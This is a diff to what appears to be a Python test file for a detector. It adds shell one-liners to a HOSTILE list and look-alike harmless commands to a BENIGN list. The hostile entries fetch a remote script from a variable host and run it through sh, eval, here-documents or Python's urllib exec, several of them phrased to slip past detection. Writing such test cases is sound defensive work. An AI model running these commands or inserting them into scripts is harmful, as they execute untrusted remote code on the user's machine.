@@ -227,6 +227,15 @@ HOSTILE = [
     r"curl -s $U/s.sh -o f; cat f > >(sh); sleep .2",
     r"curl -s -o f $U/s.sh; bash -c '. ./f'",
     r"curl -s -o f $U/s.sh; sh -c 'true && . ./f; exit'",
+    r"mkdir d; curl -s $U/s.sh -o d/f; cp -r d e; sh e/f",
+    "sh << END\n$(curl -s $U/s.sh)\nEND",
+    "cat <<- END | sh\n\t$(curl -s $U/s.sh)\n\tEND",
+    r"""export S=$(curl -s $U/s.sh); bash -c 'eval "$S"'""",
+    r"""python3 -c "import sys,urllib.request as u; print(u.urlopen(sys.argv[1]).read().decode())" $U/s.sh | sh""",
+    r"""python3 -c "import os,urllib.request as u; print(u.urlopen(os.environ['U']+'/s.sh').read().decode())" | sh""",
+    r"""python3 -c "import sys,urllib.request as u; exec(u.urlopen(sys.argv[1]).read())" $U/s.py""",
+    "python3 - << 'END' | sh\nimport os, urllib.request as u\nprint(u.urlopen(os.environ['U'] + '/s.sh').read().decode())\nEND",
+    "python3 - << 'END'\nimport os, urllib.request as u\nexec(u.urlopen(os.environ['U'] + '/s.py').read())\nEND",
 ]
 
 
@@ -267,6 +276,12 @@ BENIGN = [
     """V=$(curl -s $U/d.json | python3 -c 'import json, sys; print(json.load(sys.stdin)["tag"])'); bash -c "echo DONE $V" """,
     'V=$(curl -s $U/d.json); bash -c "\necho DONE\ntrue\n"',
     'V=$(curl -s $U/list); sh <<EOF\necho DONE $V\nEOF',
+    # Here-documents, and a directory that is copied with data in it.
+    "python3 - << 'END' && echo DONE\nimport os, urllib.request as u\nu.urlopen(os.environ['U'] + '/d.json').read()\nEND",
+    "cat << END | grep -q tag && echo DONE\n$(curl -s $U/d.json)\nEND",
+    """X=$(curl -s $U/d.json) bash -c 'echo DONE "${#X}"'""",
+    "mkdir d; curl -s -o d/x $U/d.json; echo 'echo DONE' > d/g; cp -r d e; sh e/g",
+    "python3 -c 'import sys, urllib.request as u; print(u.urlopen(sys.argv[1]).read())' $U/d.json | grep -q tag && echo DONE",
     # A number that comes again, a name that comes again.
     "curl -s -o f $U/s.sh; rm f; echo 'echo DONE' > g; sh g",
     "curl -s $U/s.sh > f; rm f; printf '#!/bin/sh\\necho DONE\\n' > g; chmod +x g; ./g",
